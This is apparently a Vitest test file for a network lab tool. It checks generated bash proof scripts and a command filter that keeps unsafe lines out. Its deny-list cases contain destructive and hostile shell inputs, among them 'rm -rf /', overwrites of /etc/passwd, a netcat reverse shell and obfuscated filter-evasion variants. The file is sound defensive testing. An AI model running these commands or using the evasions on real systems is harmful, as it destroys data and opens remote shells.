import { spawnSync } from 'node:child_process'
import { expect, test, vi } from 'vitest'
import { LAB_NAMES } from '../../../src/lab/labs/index.ts'
import { mayRun } from '../../../src/lab/prove/allowed.ts'
import type { Proof } from '../../../src/lab/prove/script.ts'
import { PATIENCE } from '../../properties/runs.ts'
import { page } from '../take/page.ts'
import { COMMANDS } from './labs.ts'

vi.setConfig({ testTimeout: PATIENCE })

test.each(LAB_NAMES)(
  'the script of %s is one that bash reads, with the tables that the lab prints',
  (lab) => {
    const p = page()
    p.ask({ type: 'open', lab, seed: 1 })
    for (const [host, line] of COMMANDS[lab]?.[0] ?? []) p.type(host, line)
    const { script, left } = p.use('prove', null) as Proof
    expect(left).toEqual([])
    expect(spawnSync('bash', ['-n'], { input: script, encoding: 'utf8' }).stderr).toBe('')
    for (const h of p.session.spec?.hosts ?? []) expect(script).toContain(`\nhost ${h.name}\n`)
    const expected = /<<'END_OF_TABLES'\n([^]*)END_OF_TABLES\n/.exec(script)?.[1] ?? ''
    expect(expected).toContain('COMMIT')
    expect(expected).not.toMatch(/\[\d+:\d+\]/)
  },
)

test('every ready lab has something to be proved', () => {
  for (const lab of LAB_NAMES) expect(Object.keys(COMMANDS)).toContain(lab)
})

test('what does not belong on a real machine is left out, here and there', () => {
  const p = page()
  p.ask({ type: 'open', lab: 'gateway', seed: 1 })
  p.type('gateway', 'sysctl -w net.netfilter.nf_conntrack_max=5')
  p.type('gateway', 'echo 1 > /etc/hosts')
  p.type('gateway', 'sysctl -p')
  const { script, left } = p.use('prove', null) as Proof
  expect(left.map((l) => l.line)).toEqual([
    'sysctl -w net.netfilter.nf_conntrack_max=5',
    'echo 1 > /etc/hosts',
  ])
  expect(script).toContain(`on gateway 'sysctl -p '"$W/gateway/etc/sysctl.conf"`)
})

test.each([
  'iptables -A FORWARD ! -i eth0 -j DROP',
  'for i in $(seq 10); do curl -s http://baidu.com/ >/dev/null; done',
  'sysctl -w net.ipv4.ip_forward=1 2>/dev/null; ping -c 1 10.0.0.1 || echo no',
  'conntrack -L | grep tcp | wc -l',
  'echo 1 > /proc/sys/net/ipv4/ip_forward',
])('may run: %s', (line) => {
  expect(mayRun(line)).toBe(true)
})

test.each([
  'rm -rf /',
  'docker rm -f nginx',
  'echo x > /etc/passwd',
  'echo x >/root/.bashrc',
  'echo $(rm -rf /)',
  'echo `rm x`',
  'true; reboot',
  'true && shutdown now',
  'true | sh',
  'for i in 1 2; do rm x; done',
  'eval "rm x"',
  'A=1 rm x',
  'ip netns exec other rm x',
  'ip -b /tmp/x',
  'curl -o /etc/passwd http://x/',
  'tcpdump -w /etc/x -c 1',
  'sed -i s/a/b/ /etc/passwd',
  "sed 'w /etc/x' /dev/null",
  'awk \'BEGIN { system("rm x") }\'',
  'awk \'BEGIN { print 1 > "/etc/x" }\'',
  'nc -e /bin/sh 1.2.3.4 5',
  'cat <<X',
  'cat >> /etc/hosts',
  '$X -rf /',
  '"rm" x',
  'r\\m x',
  '>/dev/null rm x',
  '2>&1 rm x',
  'if true; then rm x; fi',
  '! rm x',
  "echo 'a' 'b; rm x'",
])('stays out: %s', (line) => {
  expect(mayRun(line)).toBe(false)
})
